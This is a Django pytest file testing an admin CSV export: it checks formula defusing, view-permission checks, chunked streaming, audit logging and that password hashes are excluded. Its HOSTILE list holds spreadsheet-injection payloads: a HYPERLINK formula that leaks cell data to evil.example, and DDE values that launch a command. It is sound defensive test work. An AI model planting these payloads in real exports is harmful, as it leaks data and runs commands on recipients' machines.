"""The admin's "Export selected as CSV": formulas defused, view permission, streamed, audited."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.http import StreamingHttpResponse
from django.urls import reverse

from atlas_site.admin_base import CSV_CHUNK_ROWS, CsvExportMixin, csv_cell
from governance.compliance.models import AuditAction, AuditLog
from governance.pipeline.models import Dataset

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("\n=1+1", "'\n=1+1"),
    (" =1", "' =1"),
    ("  +SUM(A1:A9)", "'  +SUM"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign, read as "=" by some spreadsheets
    ('\uff1dHYPERLINK("http://evil.example")', "'\uff1dHYPERLINK"),
]


@pytest.mark.parametrize(("value", "starts"), HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(value, starts):
    cell = csv_cell(value)
    assert cell.startswith(starts)
    assert cell == "'" + value  # the value itself is kept whole after the quote


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("plain text", "plain text"),
        ("a=b", "a=b"),  # only a leading trigger matters
        ("a \uff1d b", "a \uff1d b"),
        ("", ""),
        (None, ""),
        (-5, "-5"),  # numbers are never formulas
        (Decimal("-0.25"), "-0.25"),
        (-1.5, "-1.5"),
        (True, "True"),
        (date(2026, 1, 2), "2026-01-02"),
        ({"k": "=1"}, '{"k": "=1"}'),
        (["=1"], '["=1"]'),
    ],
)
def test_other_cells_are_left_as_they_are(value, expected):
    assert csv_cell(value) == expected


# --- Through the admin ----------------------------------------------------------------------


def export(client, changelist: str, ids=(), select_across=False, query=""):
    data = {"action": "export_selected_as_csv", ACTION_CHECKBOX_NAME: [str(pk) for pk in ids]}
    if select_across:
        data["select_across"] = "1"
        data[ACTION_CHECKBOX_NAME] = data[ACTION_CHECKBOX_NAME] or ["0"]
    return client.post(reverse(changelist) + query, data)


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


DATASETS = "admin:pipeline_dataset_changelist"


@pytest.mark.django_db
def test_a_steward_exports_hostile_names_defused_and_the_export_is_audited(client, steward):
    datasets = [
        Dataset.objects.create(slug=f"hostile-{index}", name=value)
        for index, (value, _) in enumerate(HOSTILE)
    ]
    Dataset.objects.create(slug="not-selected", name="not selected")
    client.force_login(steward)

    response = export(client, DATASETS, ids=[dataset.pk for dataset in datasets])
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="dataset-')
    header, *rows = read_csv(response)
    assert header[0] == "ID"
    name = header.index("name")
    assert sorted(row[name] for row in rows) == sorted("'" + value for value, _ in HOSTILE)
    assert "not selected" not in {row[name] for row in rows}

    entry = AuditLog.objects.get(action=AuditAction.ACTION, object_type="pipeline.dataset")
    assert entry.actor == "steward"
    assert entry.detail == f"Exported as CSV: {len(HOSTILE)} selected rows."
    assert sorted(entry.after["rows"]) == sorted(str(dataset.pk) for dataset in datasets)
    assert "name" in entry.after["columns"]


@pytest.mark.django_db
def test_the_action_is_offered_to_whoever_may_view(client, viewer, steward):
    dataset = Dataset.objects.create(slug="seen", name="Seen")
    client.force_login(viewer)
    response = client.get(reverse(DATASETS))
    assert '<option value="export_selected_as_csv">' in response.text
    header, *rows = read_csv(export(client, DATASETS, ids=[dataset.pk]))
    assert rows[0][header.index("slug")] == "seen"


@pytest.mark.django_db
def test_without_view_permission_there_is_no_export(client, viewer, django_user_model):
    AuditLog.objects.create(actor="system", action=AuditAction.RUN, detail="secret-marker-4711")
    client.force_login(viewer)  # viewers may not read the audit log
    response = export(client, "admin:compliance_auditlog_changelist", select_across=True)
    assert response.status_code == 403
    assert b"secret-marker-4711" not in response.content

    nobody = django_user_model.objects.create_user("nobody", password="x", is_staff=True)
    client.force_login(nobody)
    Dataset.objects.create(slug="hidden", name="hidden-marker-4712")
    response = export(client, DATASETS, select_across=True)
    assert response.status_code == 403
    assert b"hidden-marker-4712" not in response.content


@pytest.mark.django_db
def test_select_across_streams_every_matching_row_in_chunks(client, officer):
    AuditLog.objects.bulk_create(
        AuditLog(actor="bulk", action=AuditAction.RUN, detail=f"=row {index}")
        for index in range(CSV_CHUNK_ROWS + 25)
    )
    AuditLog.objects.create(actor="someone-else", action=AuditAction.RUN, detail="=other")
    client.force_login(officer)
    response = export(
        client, "admin:compliance_auditlog_changelist", select_across=True, query="?actor=bulk"
    )
    header, *rows = read_csv(response)
    detail = header.index("detail")
    assert len(rows) == CSV_CHUNK_ROWS + 25
    assert {row[detail][:6] for row in rows} == {"'=row "}
    entry = AuditLog.objects.get(action=AuditAction.ACTION, actor="officer")
    assert entry.after["rows"] == "every row matching the filters"
    assert entry.after["filters"] == "actor=bulk"


@pytest.mark.django_db
def test_hidden_fields_are_never_exported(client, superuser, steward):
    client.force_login(superuser)
    header, *rows = read_csv(export(client, "admin:auth_user_changelist", ids=[steward.pk]))
    assert "password" not in header
    assert not any(value.startswith(("md5$", "pbkdf2")) for row in rows for value in row)


def test_the_admins_stewards_work_in_offer_the_export():
    offering = {
        model._meta.label
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, CsvExportMixin)
    }
    for label in (
        "pipeline.Dataset",
        "pipeline.Run",
        "quality.QualityRule",
        "explore.RawRecord",
        "chart.ChartRecord",
        "navigate.Fact",
        "compliance.AuditLog",
    ):
        assert label in offering
